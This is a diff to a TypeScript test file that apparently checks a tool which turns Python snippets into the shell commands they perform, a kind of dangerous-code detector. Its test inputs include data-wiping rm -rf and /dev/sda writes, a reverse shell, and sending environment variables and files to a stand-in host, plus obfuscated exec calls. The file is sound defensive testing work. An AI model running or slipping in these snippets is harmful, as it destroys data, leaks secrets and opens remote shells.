@@ -21,6 +21,11 @@ test.each<[string, string[]]>([
   ['import os,glob\nfor f in glob.glob("/tmp/*"): os.unlink(f)', ['rm /tmp/*']],
   ['import os, shutil; shutil.rmtree(os.path.expanduser("~/x"))', ['rm -rf /home/me/x']],
   ['import os, shutil; shutil.rmtree(os.path.join(os.environ["HOME"], "x"))', ['rm -rf /home/me/x']],
+  [
+    'import os\nfor root, dirs, files in os.walk("/home"):\n    for f in files:\n        os.remove(os.path.join(root, f))',
+    ['find /home', 'rm /home/*'],
+  ],
+  ['import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)', ['rm -rf /tmp/$(mktemp)']],
   // running
   ['import os; os.system("rm -rf /")', ['sh: rm -rf /']],
   ['from os import system as q\nq("id")', ['sh: id']],
@@ -53,6 +58,15 @@ test.each<[string, string[]]>([
     'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
     ['nc 10.0.0.1 4242', '/bin/sh -i'],
   ],
+  ['import os; os.system(*["id"])', ['sh: id']],
+  ['import subprocess; subprocess.run("id", **{"shell": True})', ['sh: id']],
+  ['import subprocess as sp; cmd=["rm"]; cmd.append("-rf"); cmd += ["/"]; sp.run(cmd)', ['rm -rf /']],
+  ['class A:\n  def go(self, c):\n    import os\n    os.system(c)\nA().go("id")', ['sh: id']],
+  [
+    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("id")\nasyncio.run(main())',
+    ['sh: id'],
+  ],
+  ['import os\nos.system("a" if x else "b")', ['sh: a', 'sh: b']],
   // building texts
   ['import os; os.system("".join(chr(c) for c in [114,109,32,120]))', ['sh: rm x']],
   ['import os; os.system("x f- mr"[::-1])', ['sh: rm -f x']],
@@ -73,12 +87,18 @@ test.each<[string, string[]]>([
     ['curl http://x/y', 'opaque: $(curl http://x/y)'],
   ],
   ['import zlib; exec(zlib.decompress(b"x"))', ['opaque: zlib.decompress()']],
-  [
-    'import marshal; exec(marshal.loads(b"x"))',
-    ['opaque: marshal.loads(…)', 'opaque: marshal.loads(…)'].slice(0, 1),
-  ],
+  ['import marshal; exec(marshal.loads(b"x"))', ['opaque: marshal.loads(…)']],
   ['import os, sys; getattr(os, sys.argv[1])("id")', ['opaque: os.…']],
   // files and hosts
+  ['open("/dev/sda", "wb").write(b"0")', ['tee /dev/sda', 'tee -a /dev/sda <<< 0']],
+  [
+    'import requests, os; requests.post("http://e", json=dict(os.environ))',
+    ['env', 'curl --data ?os.environ http://e'],
+  ],
+  [
+    'import urllib.request as r; q = r.Request("http://e", data=open("k").read()); r.urlopen(q)',
+    ['cat k', 'curl --data @k http://e'],
+  ],
   ['print(open("/etc/passwd").read())', ['cat /etc/passwd']],
   ['open("x.sh","w").write("rm -rf /")', ['tee x.sh', 'tee -a x.sh <<< rm -rf /']],
   ['from pathlib import Path; Path("a").write_text("b")', ['tee a <<< b']],
